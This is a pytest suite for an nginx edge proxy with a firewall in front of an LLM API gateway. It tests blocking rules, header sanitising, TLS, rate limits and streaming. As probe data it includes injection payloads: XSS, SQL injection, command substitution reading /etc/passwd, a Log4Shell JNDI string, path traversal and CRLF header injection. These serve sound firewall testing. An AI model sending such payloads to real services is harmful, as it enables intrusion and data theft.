"""What clients see of a real nginx with its firewall, and what the gateway sees of them."""

import json
import os
import socket
import ssl
import threading
import time
from datetime import UTC, datetime
from pathlib import Path

import psutil
import pytest
from cryptography import x509

from greenlight.adapters.nginx.process import nginx_problem
from greenlight.adapters.stack.certificates import certificates_in, ensure_certificates
from greenlight.core.errors import ConfigError
from greenlight.gateway.edge import PATHS, EdgeSettings
from greenlight.testing.edge_worlds import an_edge, send, trusting
from greenlight.testing.waf_corpus import HEADERS

PROBLEM = nginx_problem(EdgeSettings(port=1, upstream_port=2, certificate="/c", key="/k"))
pytestmark = [
    pytest.mark.skipif(PROBLEM is not None, reason=PROBLEM or ""),
    pytest.mark.timeout(120),
]

CHAT, COMPLETIONS = "/v1/chat/completions", "/v1/completions"
CODE = "<script>alert(1)</script>'; DROP TABLE users; -- $(cat /etc/passwd) ${jndi:ldap://x/a}"
BODY_BYTES = 100_000


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    with an_edge(tmp_path_factory.mktemp("edge"), body_bytes=BODY_BYTES, log_rules=True) as world:
        yield world


@pytest.fixture(autouse=True)
def nothing_received(request):
    if "edge" in request.fixturenames:
        request.getfixturevalue("edge").upstream.received.clear()


def request(method="GET", target="/healthz", *, body=None, headers=None, close=True):
    data = json.dumps(body).encode() if isinstance(body, dict | list) else body
    found = HEADERS | ({"Connection": "close"} if close else {})
    if data is not None:
        found |= {"Content-Type": "application/json", "Content-Length": str(len(data))}
    lines = [f"{method} {target} HTTP/1.1"]
    lines += [f"{name}: {value}" for name, value in (found | (headers or {})).items()]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + (data or b"")


def ask(world, *arguments, **options):
    return send(world.edge.port, request(*arguments, **options), trusting(world.certificates))


def post(world, body, target=CHAT, **options):
    return ask(world, "POST", target, body=body, **options)


def chat(text="hi", **changes):
    return {"model": "m", "messages": [{"role": "user", "content": text}]} | changes


def error_of(answer):
    assert answer.header("Content-Type") == ["application/json"], answer.raw
    error = json.loads(answer.body)["error"]
    assert set(error) == {"message", "type", "param", "code"}
    assert error["param"] is None
    assert error["message"]
    return error["type"], error["code"]


# --- prompts


PROMPTS = {
    "content": chat(CODE),
    "parts": chat([{"type": "text", "text": CODE}]),
    "system": {"model": "m", "messages": [{"role": "system", "content": CODE}]},
    "arguments": {
        "model": "m",
        "messages": [
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {"name": "f", "arguments": CODE},
                    }
                ],
            }
        ],
    },
    "tool": chat(
        tools=[
            {
                "type": "function",
                "function": {
                    "name": "f",
                    "description": CODE,
                    "parameters": {"properties": {CODE: {"description": CODE, "enum": [CODE]}}},
                },
            }
        ]
    ),
    "schema": chat(
        response_format={
            "type": "json_schema",
            "json_schema": {"name": "a", "schema": {"description": CODE}},
        }
    ),
    "prompt": {"model": "m", "prompt": CODE},
    "prompts": {"model": "m", "prompt": ["a", CODE]},
    "suffix": {"model": "m", "prompt": "a", "suffix": CODE},
}


@pytest.mark.parametrize("where", PROMPTS)
def test_code_in_a_prompt_passes_untouched(edge, where):
    assert post(edge, PROMPTS[where]).status == 200
    assert json.loads(edge.upstream.received[0].body) == PROMPTS[where]


BESIDE = {
    "model": chat(model=CODE),
    "user": chat(user=CODE),
    "role": {"model": "m", "messages": [{"role": CODE, "content": "hi"}]},
    "name": {"model": "m", "messages": [{"role": "user", "content": "hi", "name": CODE}]},
    "stop": chat(stop=["a", CODE]),
    "metadata": chat(metadata={"run": CODE}),
    "a key": chat(**{CODE: 1}),
    "an unknown field": chat(anything={"deep": [CODE]}),
    "tool's name": chat(tools=[{"type": "function", "function": {"name": CODE}}]),
    "beside a content": {
        "model": "m",
        "messages": [{"role": "user", "content": "hi", "content_": CODE}],
    },
    "a part's url": chat([{"type": "image_url", "image_url": {"url": CODE}}]),
}


@pytest.mark.parametrize("where", BESIDE)
def test_the_same_code_anywhere_else_is_blocked(edge, where):
    answer = post(edge, BESIDE[where])
    assert answer.status == 403
    assert error_of(answer) == ("invalid_request_error", "blocked_by_waf")
    assert edge.upstream.received == []


def test_a_field_that_the_operator_calls_a_prompt_is_one(tmp_path):
    with an_edge(tmp_path, more_prompt_fields=["guided_json.*", "notes[]"]) as world:
        body = chat(guided_json={"properties": {CODE: {"enum": [CODE]}}}, notes=[CODE])
        assert post(world, body).status == 200
        assert post(world, chat(guided_regex=CODE)).status == 403


def test_a_prompt_field_of_another_kind_of_request_is_no_way_around(edge):
    query = "json.prompt=1'%20UNION%20SELECT%20password%20FROM%20users--"
    assert ask(edge, target=f"/v1/models?{query}").status == 403


@pytest.mark.parametrize(
    ("query", "passes"),
    [
        ("api-version=2024-10-21&after=a/b", True),
        ("user=alice%40example.com&q=two+words", True),
        ("q={{7*7}}", False),
        ("q=..%2Fx", False),
        ("q=http://x.example", False),
        ("q%5B%24ne%5D=1", False),
        ("json.model=m", False),
    ],
)
def test_a_query_holds_plain_names_and_values(edge, query, passes):
    assert (ask(edge, target=f"/v1/models?{query}").status == 200) is passes


def files_with(text, world):
    found = [path for path in world.folder.rglob("*") if path.is_file()]
    return {path.name for path in found if text in path.read_text()}


def test_a_prompt_is_in_no_file_even_while_rules_are_logged(edge):
    canary = "canary-7f3a"
    post(edge, chat(f"{CODE} {canary} {'x' * 50_000}"))
    post(edge, chat(f"{CODE} {canary}", user=CODE))
    post(edge, json.dumps(chat(canary)).encode()[:-5])
    assert "error.log" in files_with("etc/passwd", edge)
    assert files_with(canary, edge) == set()
    assert list((edge.folder / "temporary/body").iterdir()) == []


def test_a_prompt_where_none_belongs_is_logged_only_with_the_rules(edge, tmp_path):
    canary = "canary-91bc"
    with an_edge(tmp_path) as quiet:
        for world in (edge, quiet):
            assert post(world, chat(user=f"{CODE} {canary}")).status == 403
            assert post(world, chat(f"{CODE} {canary}")["messages"]).status == 403
        assert files_with(canary, quiet) == set()
        assert files_with("949110", quiet) == {"error.log"}
    assert files_with(canary, edge) == {"error.log"}


# --- the shape of requests


@pytest.mark.parametrize(
    ("method", "target", "status", "code"),
    [
        ("GET", "/", 404, "unknown_url"),
        ("GET", "/metrics", 404, "unknown_url"),
        ("GET", "/openapi-json", 404, "unknown_url"),
        ("POST", "/v1/embeddings", 404, "unknown_url"),
        ("GET", "/v1/models/../../../metrics", 400, "bad_request"),
        ("GET", "/v1/models/a/../../../metrics", 404, "unknown_url"),
        ("GET", "/v1/models/a%0aX-Admin:%201", 404, "unknown_url"),
        ("GET", "/v1/models/a%0a", 404, "unknown_url"),
        ("GET", "/edge/403", 404, "unknown_url"),
        ("TRACE", "/healthz", 405, "method_not_allowed"),
        ("DELETE", "/v1/models/m", 405, "method_not_allowed"),
        ("GET", f"/{'a' * 20_000}", 414, "uri_too_long"),
        ("GARBAGE", "", 400, "bad_request"),
    ],
)
def test_what_is_no_part_of_the_api_is_refused(edge, method, target, status, code):
    answer = ask(edge, method, target)
    assert (answer.status, error_of(answer)[1]) == (status, code)
    assert edge.upstream.received == []


@pytest.mark.parametrize(
    "target",
    [*PATHS, "/v1/models/m", "/v1/models/HuggingFaceTB/SmolLM2-135M"],
)
def test_the_api_is_reached_under_the_path_that_was_asked(edge, target):
    assert ask(edge, target=target).status == 200
    assert edge.upstream.received[0].target == target


@pytest.mark.parametrize(
    ("content_type", "status"),
    [
        ("application/json", 200),
        ('application/json; charset="UTF-8"', 200),
        ("application/json;charset=utf8", 200),
        ("application/json; charset=utf-16", 415),
        ("application/json, text/html", 415),
        ("text/plain", 415),
        ("application/x-www-form-urlencoded", 415),
        ("multipart/form-data; boundary=x", 415),
        ("application/xml", 415),
    ],
)
def test_a_body_is_json_in_utf_8_or_refused(edge, content_type, status):
    answer = post(edge, chat(), headers={"Content-Type": content_type})
    assert answer.status == status
    assert len(edge.upstream.received) == (status == 200)


@pytest.mark.parametrize(
    "body",
    [b'{"a":', b'{"a":1}{"b":2}', b'\xef\xbb\xbf{"a":1}', b'{"a":"\xff"}', b"[" * 100 + b"]" * 100],
    ids=["cut off", "two", "mark", "no utf-8", "deep"],
)
def test_a_body_that_is_no_json_is_a_bad_request(edge, body):
    assert error_of(post(edge, body)) == ("invalid_request_error", "bad_request")
    assert edge.upstream.received == []


def test_a_compressed_body_is_refused_since_nobody_could_look_into_it(edge):
    assert post(edge, chat(), headers={"Content-Encoding": "gzip"}).status == 415


def test_a_chunked_body_is_refused_and_leaves_no_connection_behind(edge):
    [worker] = psutil.Process(edge.nginx.pid()).children()
    before = worker.num_fds()
    head = request("POST", CHAT, headers={"Transfer-Encoding": "chunked"})
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (BODY_BYTES * 2, b"a" * BODY_BYTES * 2)
    answers = [send(edge.edge.port, head + chunk, trusting(edge.certificates)) for _ in range(5)]
    assert {answer.status for answer in answers} == {411}
    deadline = time.monotonic() + 10
    while worker.num_fds() > before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert worker.num_fds() <= before


def of_length(length):
    empty = len(json.dumps(chat("")).encode())
    return chat("x" * (length - empty))


def test_a_body_may_be_as_long_as_the_limit_and_not_longer(edge):
    assert post(edge, of_length(BODY_BYTES)).status == 200
    assert len(edge.upstream.received[0].body) == BODY_BYTES
    answer = post(edge, of_length(BODY_BYTES + 1))
    assert answer.status == 413
    assert error_of(answer)[1] == "request_too_large"
    assert str(BODY_BYTES) in answer.body.decode()
    assert len(edge.upstream.received) == 1


def test_a_long_chat_passes_and_what_costs_too_much_to_inspect_does_not(edge):
    long = [{"role": "user", "content": "hi"}, {"role": "assistant", "content": None}] * 256
    call = {"id": "call_1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
    for message in long[1::2]:
        message |= {"tool_calls": [call], "refusal": None, "function_call": None, "audio": None}
    assert post(edge, {"model": "m", "messages": long}).status == 200
    biased = chat(logit_bias={str(token): -1 for token in range(1024)})
    assert post(edge, biased).status == 200
    assert post(edge, chat(user="x" * 1024)).status == 200
    assert post(edge, chat(user="x" * 1025)).status == 400
    assert post(edge, chat(extra=[1] * 250)).status == 200
    assert post(edge, chat(extra=[1] * 260)).status == 400
    assert post(edge, {"model": "m", "prompt": ["a"] * 3990}).status == 200
    assert post(edge, {"model": "m", "prompt": ["a"] * 4000}).status == 400


# --- what answers and the gateway get


@pytest.mark.parametrize("target", ["/healthz", "/nothing", "/v1/models?q=<script>"])
def test_every_answer_carries_the_security_headers(edge, target):
    answer = ask(edge, target=target)
    assert answer.header("Strict-Transport-Security") == ["max-age=31536000"]
    assert answer.header("X-Content-Type-Options") == ["nosniff"]
    assert answer.header("Content-Security-Policy") == [
        "default-src 'none'; frame-ancestors 'none'"
    ]
    assert answer.header("Referrer-Policy") == ["no-referrer"]
    assert answer.header("Server") == ["nginx"]


def test_the_gateways_own_words_are_passed_on_once(tmp_path):
    def answer(handler, received):
        del received
        handler.send_response(429)
        for name, value in {
            "Retry-After": "17", "X-Content-Type-Options": "sniff", "X-Request-ID": "gateway's",
            "Content-Type": "application/json", "Content-Length": "2",
        }.items():  # fmt: skip
            handler.send_header(name, value)
        handler.end_headers()
        handler.wfile.write(b"{}")

    with an_edge(tmp_path, answer=answer) as world:
        found = ask(world)
        assert (found.status, found.body) == (429, b"{}")
        assert found.header("Retry-After") == ["17"]
        assert found.header("X-Content-Type-Options") == ["nosniff"]
        assert found.header("X-Request-ID") == [world.upstream.received[0].header("X-Request-ID")]


def test_what_a_client_says_about_where_it_comes_from_is_replaced(edge):
    lies = {
        "X-Forwarded-For": "10.9.8.7", "X-Real-IP": "10.9.8.7", "X-Forwarded-Proto": "http",
        "X-Forwarded-Host": "evil.example", "Forwarded": "for=10.9.8.7", "X-Request-ID": "mine",
        "Cookie": "a=b",
    }  # fmt: skip
    answer = ask(edge, headers=lies)
    [received] = edge.upstream.received
    assert received.header("X-Forwarded-For") == "127.0.0.1"
    assert received.header("X-Real-IP") == "127.0.0.1"
    assert received.header("X-Forwarded-Proto") == "https"
    assert received.header("X-Request-ID") not in (None, "mine")
    assert answer.header("X-Request-ID") == [received.header("X-Request-ID")]
    for name in ("X-Forwarded-Host", "Forwarded", "Cookie"):
        assert received.header(name) is None
    assert received.header("Authorization") == HEADERS["Authorization"]


def test_a_gateway_that_is_away_is_a_server_error(tmp_path):
    with an_edge(tmp_path) as world:
        world.upstream.close()
        answer = ask(world)
        assert answer.status == 502
        assert error_of(answer) == ("server_error", "gateway_failed")


def test_requests_above_the_rate_of_an_address_get_429_with_a_time(tmp_path):
    with an_edge(tmp_path, requests_per_second=1, burst=3) as world:
        answers = [ask(world) for _ in range(10)]
        refused = [answer for answer in answers if answer.status == 429]
        assert [answer.status for answer in answers[:4]] == [200] * 4
        assert len(refused) >= 4
        assert error_of(refused[0]) == ("rate_limit_error", "rate_limit_exceeded")
        assert refused[0].header("Retry-After") == ["1"]
        assert answers[0].header("Retry-After") == []
        other = from_address(world, "127.0.0.2")
        assert other.startswith(b"HTTP/1.1 200")


def test_requests_that_the_firewall_refuses_count_too(tmp_path):
    with an_edge(tmp_path, requests_per_second=1, burst=2) as world:
        statuses = [post(world, chat(user=CODE)).status for _ in range(8)]
        assert statuses[:3] == [403] * 3
        assert 429 in statuses[3:]


def from_address(world, address):
    with (
        socket.create_connection(("127.0.0.1", world.edge.port), source_address=(address, 0)) as s,
        trusting(world.certificates).wrap_socket(s, server_hostname="127.0.0.1") as secured,
    ):
        secured.sendall(request())
        return secured.recv(1000)


@pytest.mark.filterwarnings("ignore:ssl.TLSVersion:DeprecationWarning")
@pytest.mark.parametrize(
    ("version", "works"), [("TLSv1_1", False), ("TLSv1_2", True), ("TLSv1_3", True)]
)
def test_only_modern_tls_is_spoken(edge, version, works):
    context = trusting(edge.certificates)
    context.set_ciphers("ALL:@SECLEVEL=0")
    context.minimum_version = context.maximum_version = ssl.TLSVersion[version]
    answer = send(edge.edge.port, request(), context)
    assert (answer.status == 200) is works


def test_plain_http_is_refused_on_the_tls_port(edge):
    with socket.create_connection(("127.0.0.1", edge.edge.port), timeout=3) as plain:
        plain.sendall(request())
        assert plain.recv(1000).startswith(b"HTTP/1.1 400")


# --- streams and new certificates


class Stream:
    """An upstream's answer in pieces, each sent when the test says so."""

    def __init__(self):
        self.next = threading.Semaphore(0)
        self.pieces = [f"data: {n}\n\n".encode() for n in range(5)]

    def __call__(self, handler, received):
        if received.target != CHAT:
            handler.send_response(200)
            handler.send_header("Content-Length", "0")
            handler.end_headers()
            return
        handler.send_response(200)
        handler.send_header("Content-Type", "text/event-stream")
        handler.send_header("Transfer-Encoding", "chunked")
        handler.end_headers()
        for piece in [*self.pieces, b""]:
            assert self.next.acquire(timeout=30)
            handler.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))

    def read(self, client, wanted):
        """Let one piece out and read it; the next one is still held back."""
        self.next.release()
        found = b""
        while wanted not in found:
            piece = client.recv(65536)
            assert piece, "the stream was cut"
            found += piece


@pytest.fixture
def stream():
    return Stream()


@pytest.fixture
def streaming(tmp_path, stream):
    with an_edge(tmp_path, answer=stream) as world:
        yield world


def connect(world):
    plain = socket.create_connection(("127.0.0.1", world.edge.port), timeout=10)
    return trusting(world.certificates).wrap_socket(plain, server_hostname="127.0.0.1")


def test_a_stream_arrives_piece_by_piece(streaming, stream):
    with connect(streaming) as client:
        client.sendall(request("POST", CHAT, body=chat(stream=True)))
        for piece in stream.pieces:
            stream.read(client, piece)
        stream.next.release()
        assert client.recv(100).endswith(b"0\r\n\r\n")


def served(world):
    with connect(world) as client:
        return x509.load_der_x509_certificate(client.getpeercert(binary_form=True)).serial_number


def renewed(world):
    world.certificates.server.unlink()
    ensure_certificates(world.certificates, now=datetime.now(UTC))
    text = world.certificates.server.read_bytes()
    return x509.load_pem_x509_certificate(text).serial_number


def test_a_new_certificate_is_served_and_an_open_stream_goes_on(streaming, stream):
    before = served(streaming)
    with connect(streaming) as client:
        client.sendall(request("POST", CHAT, body=chat(stream=True)))
        stream.read(client, stream.pieces[0])
        wanted = renewed(streaming)
        streaming.nginx.reload()
        assert served(streaming) == wanted != before
        for piece in stream.pieces[1:]:
            stream.read(client, piece)
        stream.next.release()
        assert client.recv(100).endswith(b"0\r\n\r\n")
    assert ask(streaming).status == 200


def test_no_request_is_lost_while_certificates_are_renewed(streaming):
    failed, done = [], threading.Event()

    def keep_asking(context):
        while not done.is_set():
            answer = send(streaming.edge.port, request(), context)
            if answer.status != 200:
                failed.append(answer)

    # Both certificates are signed by authorities of their own: only the connection is looked at.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    client = threading.Thread(target=keep_asking, args=(context,))
    client.start()
    for _ in range(3):
        renewed(streaming)
        streaming.nginx.reload()
    done.set()
    client.join()
    assert failed == []
    assert len(streaming.upstream.received) > 3


def test_a_broken_certificate_is_refused_and_the_old_one_served_on(streaming):
    before = served(streaming)
    good = streaming.certificates.server.read_bytes()
    other = certificates_in(streaming.folder.parent / "other")
    ensure_certificates(other, now=datetime.now(UTC))
    key = good.partition(b"-----BEGIN CERTIFICATE-----")[0]
    mixed = key + b"-----BEGIN CERTIFICATE-----" + other.server.read_bytes().partition(
        b"-----BEGIN CERTIFICATE-----"
    )[2]  # fmt: skip
    for broken, told in ((b"", "no certificate"), (mixed, "key values mismatch")):
        streaming.certificates.server.write_bytes(broken)
        with pytest.raises(ConfigError, match=told):
            streaming.nginx.reload()
    assert served(streaming) == before


def test_a_client_that_goes_away_ends_its_stream_at_the_gateway(tmp_path):
    cut = threading.Event()

    def answer(handler, received):
        del received
        handler.send_response(200)
        handler.send_header("Transfer-Encoding", "chunked")
        handler.end_headers()
        try:
            for _ in range(1000):
                handler.wfile.write(b"1\r\nx\r\n")
                time.sleep(0.01)
        except OSError:
            cut.set()

    with an_edge(tmp_path, answer=answer) as world:
        with connect(world) as client:
            client.sendall(request("POST", CHAT, body=chat(stream=True)))
            client.recv(1000)
        assert cut.wait(10)


def test_an_answer_is_not_kept_in_memory_while_it_is_passed_on(tmp_path):
    size = 40_000_000

    def answer(handler, received):
        del received
        handler.send_response(200)
        handler.send_header("Content-Length", str(size))
        handler.end_headers()
        for _ in range(size // 100_000):
            handler.wfile.write(b"x" * 100_000)

    with an_edge(tmp_path, answer=answer) as world:
        [worker] = psutil.Process(world.nginx.pid()).children()
        before = worker.memory_info().rss
        assert len(ask(world).body) == size
        assert worker.memory_info().rss - before < size / 4


def test_connections_to_the_gateway_are_kept(edge):
    for _ in range(5):
        assert ask(edge).status == 200
    [worker] = psutil.Process(edge.nginx.pid()).children()
    connections = [
        one for one in worker.net_connections(kind="tcp")
        if one.raddr and one.raddr.port == edge.upstream.port
    ]  # fmt: skip
    assert len(connections) == 1


def test_everything_is_in_a_folder_of_its_own_that_others_cannot_read(edge):
    assert edge.folder.stat().st_mode & 0o777 == 0o700
    assert " " in str(edge.folder)
    user = psutil.Process(edge.nginx.pid()).children()[0].username()
    assert user == ("www-data" if os.geteuid() == 0 else psutil.Process().username())
    errors = (edge.folder / "error.log").read_text()
    assert not any(f"[{level}]" in errors for level in ("warn", "crit", "alert", "emerg"))
    log = [json.loads(line) for line in Path(edge.folder / "access.log").read_text().splitlines()]
    assert {"time", "request_id", "client", "method", "path", "status"} <= set(log[0])
